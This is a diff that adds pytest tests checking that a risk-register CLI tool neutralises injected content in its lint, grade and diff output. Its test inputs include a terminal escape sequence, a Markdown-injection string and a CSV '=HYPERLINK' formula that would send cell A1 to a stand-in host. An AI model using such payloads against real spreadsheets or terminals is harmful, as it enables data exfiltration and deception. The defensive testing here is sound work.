@@ -286,3 +286,75 @@ def test_hostile_git_config_runs_nothing(runner: CliRunner, base_register: Path,
 
     changed = changed_files(root, "HEAD")
     assert RISKS in changed and "units/county-new/unit.yaml" in changed  # a git-ignored new unit too
+
+
+# -- items 8-10: no live formula, no Markdown structure, no control character in output ------------------
+ESC = "\x1b]0;pwned\x07\x1b[2K"
+
+
+def set_title(root: Path, title: str) -> None:
+    p = root / RISKS
+    data = load(p)
+    data["risks"][0]["title"] = title
+    dump(p, data)
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "junit", "sarif", "json"])
+def test_control_characters_never_reach_lint_output(runner: CliRunner, base_register: Path, fmt: str) -> None:
+    import xml.etree.ElementTree as ET
+
+    p = base_register / RISKS
+    data = load(p)
+    data["risks"][0][f"bad{ESC}key"] = 1  # LFK102 names the key
+    dump(p, data)
+    r = invoke(runner, "lint", "--root", str(base_register), "--format", fmt)
+    assert r.exit_code == 1, r.output
+    assert "LFK102" in r.stdout
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", r.stdout), repr(r.stdout[:300])
+    if fmt == "junit":
+        ET.fromstring(r.stdout.encode("utf-8"))
+
+
+def test_grade_csv_cells_are_never_formulas(runner: CliRunner, base_register: Path) -> None:
+    import csv
+    import io
+
+    set_title(base_register, '=HYPERLINK("http://x.example/?"&A1,"ok")')
+    r = invoke(runner, "grade", "--root", str(base_register), "--format", "csv")
+    rows = list(csv.reader(io.StringIO(r.stdout)))
+    cells = [c for row in rows[1:] for c in row]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert not any(c and c[0] in "=+@" for c in cells)
+
+
+def test_csv_cell_and_row() -> None:
+    from lfk.core.safe import csv_cell, csv_row
+
+    for bad in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
+        assert csv_cell(bad).startswith("'"), bad
+    assert csv_cell(-3) == -3 and csv_cell("R-001") == "R-001"
+    assert csv_row(["=x", ESC, 5]) == ["'=x", "\\x1b]0;pwned\\x07\\x1b[2K", 5]
+
+
+def test_diff_markdown_takes_no_structure_or_mentions_from_data(runner: CliRunner, base_register: Path) -> None:
+    root = base_register
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "one")
+    set_title(root, "新标题\r- [x] injected item\r---\r```\r@octocat please" + ESC)
+    r = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "markdown")
+    assert r.exit_code in (0, 1), r.output
+    lines = r.stdout.splitlines()
+    assert not any(ln.startswith(("- [x]", "---", "```")) for ln in lines)
+    assert "@octocat" not in r.stdout and "\r" not in r.stdout and "\x1b" not in r.stdout
+    assert "injected item" in r.stdout
+    t = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "text")
+    assert "\x1b" not in t.stdout and "\r" not in t.stdout
+
+
+def test_printable() -> None:
+    from lfk.core.safe import printable
+
+    assert printable("a\x1b[2Kb\u202ec") == "a\\x1b[2Kb\\u202ec"
+    assert printable("a\nb\rc") == "a b c" and printable("a\nb", newlines=True) == "a\nb"
+    assert printable("受理 \\G") == "受理 \\G"
